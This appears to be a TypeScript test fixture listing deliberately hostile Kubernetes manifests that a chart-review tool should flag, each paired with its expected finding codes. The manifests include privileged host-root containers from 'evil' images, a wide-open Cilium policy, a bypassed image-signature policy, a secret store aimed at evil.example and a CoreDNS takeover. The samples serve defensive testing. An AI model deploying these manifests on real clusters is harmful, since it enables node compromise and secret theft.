/** One template of a chart of ours as somebody else would write it. */
export interface HostileTemplate {
  readonly chart: string;
  readonly file: string;
  readonly sentence: string;
  readonly text: string;
  readonly codes: readonly string[];
}

const head = (apiVersion: string, kind: string, name: string, more = ''): string =>
  `apiVersion: ${apiVersion}\nkind: ${kind}\nmetadata: {name: ${name}, labels: {ndc.gov.vn/managed: "true"}${more}}\n`;
const at = (namespace: string): string => `, namespace: ${namespace}`;

const DEPLOYMENT = `spec:
  selector: {matchLabels: {app.kubernetes.io/name: apicurio}}
  template:
    metadata: {labels: {app.kubernetes.io/name: apicurio}}
    spec:
      hostNetwork: true
      serviceAccountName: rook-ceph-system
      containers:
        - {name: x, image: docker.io/evil/evil:1, securityContext: {privileged: true}}
      volumes: [{name: h, hostPath: {path: /}}]
`;
const SERVICE = `spec:
  type: LoadBalancer
  externalIPs: [192.0.2.77]
  selector: {a: b}
  ports: [{port: 53}]
`;
const ENTITIES = `spec:
  endpointSelector: {matchLabels: {"k8s:app": x}}
  ingress:
    - fromEntities: [host]
      toPorts: [{ports: [{port: "1", endPort: 65535, protocol: TCP}]}, {}]
specs:
  - endpointSelector: {}
    ingress: [{fromEntities: [all]}]
`;
const KEY = '-----BEGIN PUBLIC KEY-----';
const SIGNATURES = `spec:
  failurePolicy: Ignore
  validationActions: [Audit]
  attestors: [{name: key0, cosign: {key: {data: "${KEY}"}}}]
`;
const CLUSTER = `spec: {instances: 1, imageName: docker.io/evil/postgres:1, env: [], enableSuperuserAccess: true}\n`;
const ROUTE = `spec:
  parentRefs: [{name: public, namespace: ndc-gateway}]
  hostnames: [x.example]
  rules: [{backendRefs: [{name: x, namespace: byt-his, port: 80}]}]
`;
const PROXY = `spec:
  provider:
    type: Kubernetes
    kubernetes:
      envoyDeployment:
        container: {image: docker.io/evil/envoy:1, securityContext: {privileged: true}}
        patch: {type: StrategicMerge, value: {spec: {template: {spec: {hostPID: true}}}}}
`;

const OBJECT = ['component-object'];
const GATEWAY = 'gateway.networking.k8s.io/v1';

const CASES: readonly (readonly [
  chart: string,
  file: string,
  sentence: string,
  text: string,
  codes: readonly string[],
])[] = [
  ['apicurio', 'apicurio.yaml', 'pods without limits', head('apps/v1', 'Deployment', 'apicurio') + DEPLOYMENT, OBJECT],
  ['apicurio', 'apicurio.yaml', 'open to outside', head('v1', 'Service', 'apicurio') + SERVICE, OBJECT],
  [
    ...(['apicurio', 'apicurio.yaml', 'in the namespace of another component'] as const),
    head('apps/v1', 'Deployment', 'apicurio', at('ndc-objects')) + DEPLOYMENT,
    ['object-unexpected', 'component-object'],
  ],
  [
    ...(['cilium-entities', 'policies.yaml', 'which opens everything'] as const),
    head('cilium.io/v2', 'CiliumNetworkPolicy', 'platform.secrets.x-ingress', at('ndc-secrets')) + ENTITIES,
    ['policy-open', 'agreement-one-sided'],
  ],
  [
    ...(['image-signatures', 'policy.yaml', 'which lets pass'] as const),
    head('policies.kyverno.io/v1beta1', 'ImageValidatingPolicy', 'ndc-image-signatures') + SIGNATURES,
    OBJECT,
  ],
  [
    ...(['platform-secret-store', 'store.yaml', 'for everybody'] as const),
    `${head('external-secrets.io/v1', 'ClusterSecretStore', 'ndc-platform')}spec: {provider: {vault: {server: "https://evil.example", path: x}}}\n`,
    OBJECT,
  ],
  [
    ...(['platform-issuers', 'issuer.yaml', 'which anybody is'] as const),
    `${head('cert-manager.io/v1', 'ClusterIssuer', 'ndc-platform')}spec: {selfSigned: {}}\n`,
    OBJECT,
  ],
  [
    ...(['platform-issuers', 'bundle.yaml', 'of other authorities'] as const),
    `${head('trust.cert-manager.io/v1alpha1', 'Bundle', 'ndc-trust')}spec: {sources: [{useDefaultCAs: true}], target: {configMap: {key: ca.crt}}}\n`,
    OBJECT,
  ],
  [
    ...(['platform-issuers', 'issuer.yaml', 'under another name'] as const),
    `${head('cert-manager.io/v1', 'ClusterIssuer', 'x')}spec: {ca: {secretName: ndc-authority}}\n`,
    ['object-unexpected'],
  ],
  [
    ...(['platform-realm', 'realm.yaml', 'which is the cluster’s names'] as const),
    `${head('v1', 'ConfigMap', 'coredns', at('kube-system'))}data: {Corefile: ".:53 {}"}\n`,
    ['object-misplaced'],
  ],
  ['platform-tls', 'routes.yaml', 'to a tenant', head(GATEWAY, 'HTTPRoute', '"{{ .Release.Name }}"') + ROUTE, OBJECT],
  [
    ...(['platform-tls', 'certificates.yaml', 'which signs others'] as const),
    `${head('cert-manager.io/v1', 'Certificate', '"{{ .Release.Name }}"')}spec: {isCA: true, secretName: x, dnsNames: [a.example], issuerRef: {name: other}}\n`,
    OBJECT,
  ],
  [
    'platform-postgres',
    'clusters.yaml',
    'of elsewhere',
    head('postgresql.cnpg.io/v1', 'Cluster', 'x') + CLUSTER,
    OBJECT,
  ],
  [
    ...(['platform-gateway', 'proxy.yaml', 'as a root of the node'] as const),
    head('gateway.envoyproxy.io/v1alpha1', 'EnvoyProxy', 'public') + PROXY,
    OBJECT,
  ],
  [
    ...(['platform-gateway', 'gateway.yaml', 'in the clear for everybody'] as const),
    `${head(GATEWAY, 'Gateway', 'public')}spec: {gatewayClassName: ndc-public, listeners: [{name: x, port: 80, protocol: HTTP, allowedRoutes: {namespaces: {from: All}}}]}\n`,
    OBJECT,
  ],
];

/** What charts of ours could be made to install, each with what the review says of it. */
export const TEMPLATES: readonly HostileTemplate[] = CASES.map(([chart, file, sentence, text, codes]) => ({
  ...{ chart, file, sentence, text, codes },
}));
